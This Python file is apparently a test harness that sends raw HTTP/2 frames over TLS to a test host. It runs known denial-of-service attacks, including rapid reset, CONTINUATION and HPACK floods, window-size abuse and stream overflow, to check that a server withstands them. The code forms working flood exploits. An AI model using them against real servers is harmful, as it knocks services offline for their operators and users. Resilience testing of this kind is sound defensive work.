# SPDX-License-Identifier: Apache-2.0
# A hostile HTTP/2 client for tests/e2e/floods_h2.sh, in the job: raw frames over TLS. Each attack prints how many frames it could send before the
# connection was at its end, and how that was said (GOAWAY's code, or closed).
import select, socket, ssl, struct, sys, time

DATA, HEADERS, RST, SETTINGS, PING, GOAWAY, WINDOW, CONT = 0, 1, 3, 4, 6, 7, 8, 9
BOUND = 20000  # frames that are tried


def frame(kind, flags, stream, body=b''):
    return struct.pack('>I', len(body))[1:] + bytes([kind, flags]) + struct.pack('>I', stream) + body


def literal(name, value):
    """Without indexing, without Huffman."""
    def text(t):
        n = len(t)
        if n < 127:
            return bytes([n]) + t
        out, n = b'\x7f', n - 127
        while n > 127:
            out += bytes([n & 127 | 128])
            n >>= 7
        return out + bytes([n]) + t
    return b'\x00' + text(name) + text(value)


def head(path=b'/hello.txt', method=b'GET', more=b''):
    return literal(b':method', method) + literal(b':scheme', b'https') + literal(b':authority', b'api.test') + literal(b':path', path) + more


class Peer:
    def __init__(self, window=65535, settings=b''):
        c = ssl.create_default_context()
        c.check_hostname = False
        c.verify_mode = ssl.CERT_NONE
        c.set_alpn_protocols(['h2'])  # alone: an upstream without it would be met in HTTP/1.1 else
        s = socket.create_connection(('api.test', 443), 20)
        try:
            self.s = c.wrap_socket(s, server_hostname='api.test')
            self.alpn = self.s.selected_alpn_protocol()
        except OSError:
            self.alpn = None
        self.frames, self.sent, self.code, self.over, self.buf = {}, 0, None, False, b''
        self.resets, self.heads, self.ok, self.data = 0, 0, 0, 0
        self.acks, self.steps, self.sync = 0, 0, True
        if self.alpn == 'h2':
            self.s.setblocking(False)
            self.put(b'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n' + frame(SETTINGS, 0, 0, settings), 0)

    def put(self, b, count=1):
        """False when the connection is at its end."""
        end = time.monotonic() + 20
        while b and not self.over and time.monotonic() < end:
            self.take()
            try:
                b = b[self.s.send(b):]
            except (ssl.SSLWantWriteError, ssl.SSLWantReadError):
                select.select([self.s], [self.s], [], 0.05)
            except OSError:
                self.over = True
        self.sent += count
        self.steps += count
        if self.steps >= 200:
            self.settle()
        return not self.over

    def settle(self):
        """The server has read what was sent: what fits into sockets is no measure of it."""
        self.steps, acks = 0, self.acks
        if self.sync:
            self.put(frame(PING, 0, 0, b'are we..'), 0)
            self.wait(3, lambda: self.acks > acks)
        else:
            self.wait(0.3, lambda: False)

    def take(self):
        while not self.over:
            try:
                b = self.s.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError):
                break
            except OSError:
                b = b''
            if not b:
                self.over = True
            self.buf += b
            while len(self.buf) >= 9:
                n = int.from_bytes(self.buf[:3], 'big')
                if len(self.buf) < 9 + n:
                    break
                kind, flags, body = self.buf[3], self.buf[4], self.buf[9:9 + n]
                self.buf = self.buf[9 + n:]
                if kind == GOAWAY:
                    # NO_ERROR says no more than that no further stream is taken.
                    self.code = struct.unpack('>I', body[4:8])[0] or self.code
                    self.over = self.over or bool(self.code)
                self.acks += kind == PING and flags == 1 and body == b'are we..'
                self.resets += kind == RST
                self.heads += kind == HEADERS
                self.ok += kind == HEADERS and body[:1] == b'\x88'  # :status 200 of the static table
                self.data += len(body) if kind == DATA else 0

    def wait(self, t, cond):
        end = time.monotonic() + t
        while not self.over and not cond() and time.monotonic() < end:
            select.select([self.s], [], [], 0.05)
            self.take()

    def tell(self, label):
        self.wait(3, lambda: False)
        print(label, 'ended' if self.over else 'open', 'after', self.sent, 'code', self.code, 'answers', self.heads, 'ok', self.ok, 'resets', self.resets, 'bytes', self.data, flush=True)


def alpn():
    print('alpn', Peer().alpn, flush=True)


def flood(label, make, **kw):
    p = Peer(**kw)
    for i in range(BOUND):
        if not p.put(make(i)):
            break
    p.tell(label)


def reset():
    """CVE-2023-44487: a stream is opened and taken back at once."""
    flood('reset', lambda i: frame(HEADERS, 5, 2 * i + 1, head()) + frame(RST, 0, 2 * i + 1, struct.pack('>I', 8)))


def settings():
    flood('settings', lambda i: frame(SETTINGS, 0, 0, struct.pack('>HI', 4, 65535)))


def ping():
    flood('ping', lambda i: frame(PING, 0, 0, b'floods!!'))


def continuation():
    """A head that does not end (CVE-2024-27316), each part with fields that count."""
    p = Peer()
    p.sync = False  # nothing but the head's next part may come
    p.put(frame(HEADERS, 1, 1, head()))
    for i in range(BOUND):
        if not p.put(frame(CONT, 0, 1, literal(b'x-%d' % i, b'y' * 20))):
            break
    p.tell('continuation')


def continuation_empty():
    p = Peer()
    p.sync = False  # nothing but the head's next part may come
    p.put(frame(HEADERS, 1, 1, head()))
    for i in range(BOUND):
        if not p.put(frame(CONT, 0, 1)):
            break
    p.tell('continuation_empty')


def data_empty():
    """Frames of a body without a byte of it (CVE-2019-9518)."""
    p = Peer()
    p.put(frame(HEADERS, 4, 1, head(b'/post', b'POST')))
    for i in range(BOUND):
        if not p.put(frame(DATA, 0, 1)):
            break
    p.tell('data_empty')


def hpack():
    """A field of 4 KB in the table, named thousands of times in a head of some KB."""
    p = Peer()
    big = literal(b'x-bomb', b'b' * 3800)
    p.put(frame(HEADERS, 5, 1, head(more=b'\x40' + big[1:])))
    for i in range(1, 200):
        if not p.put(frame(HEADERS, 5, 2 * i + 1, head(more=b'\xbe' * 8000))):
            break
    p.tell('hpack')


def window_zero():
    """Answers are asked for, and none may be sent (CVE-2019-9517)."""
    p = Peer(settings=struct.pack('>HI', 4, 0))
    for i in range(90):
        if not p.put(frame(HEADERS, 5, 2 * i + 1, head(b'/large'))):
            break
    p.tell('window_zero')


def window_one():
    """The window opened by a byte at a time (CVE-2019-9511)."""
    p = Peer(settings=struct.pack('>HI', 4, 1))
    p.put(frame(HEADERS, 5, 1, head(b'/large')))
    for i in range(BOUND):
        if not p.put(frame(WINDOW, 0, 1, struct.pack('>I', 1))):
            break
    p.tell('window_one')


def window_over():
    p = Peer()
    for i in range(3):
        p.put(frame(WINDOW, 0, 0, struct.pack('>I', 0x7fffffff)))
    p.tell('window_over')


def streams():
    """More at once than SETTINGS_MAX_CONCURRENT_STREAMS: bodies that do not end."""
    p = Peer()
    for i in range(2000):
        if not p.put(frame(HEADERS, 4, 2 * i + 1, head(b'/post', b'POST'))):
            break
    p.tell('streams')


for name in sys.argv[1:]:
    globals()[name]()
